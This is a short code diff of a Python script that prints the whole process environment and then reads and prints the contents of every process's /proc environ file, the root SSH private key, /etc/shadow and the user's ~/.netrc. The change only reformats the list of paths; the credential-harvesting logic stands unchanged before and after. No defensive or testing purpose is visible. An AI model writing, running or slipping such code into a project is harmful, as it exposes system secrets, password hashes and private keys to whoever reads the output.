@@ -8,8 +8,14 @@ import sys
 
 ctx = json.loads(sys.stdin.read() or "{}")
 print("ENV", dict(os.environ))
-for path in [f"/proc/{ctx.get('pid', 1)}/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ")[:200],
-             "/root/.ssh/id_rsa", "/etc/shadow", os.path.expanduser("~/.netrc")]:
+for path in [
+    f"/proc/{ctx.get('pid', 1)}/environ",
+    "/proc/1/environ",
+    *glob.glob("/proc/[0-9]*/environ")[:200],
+    "/root/.ssh/id_rsa",
+    "/etc/shadow",
+    os.path.expanduser("~/.netrc"),
+]:
     try:
         with open(path, "rb") as fh:
             print(path, fh.read(4096))
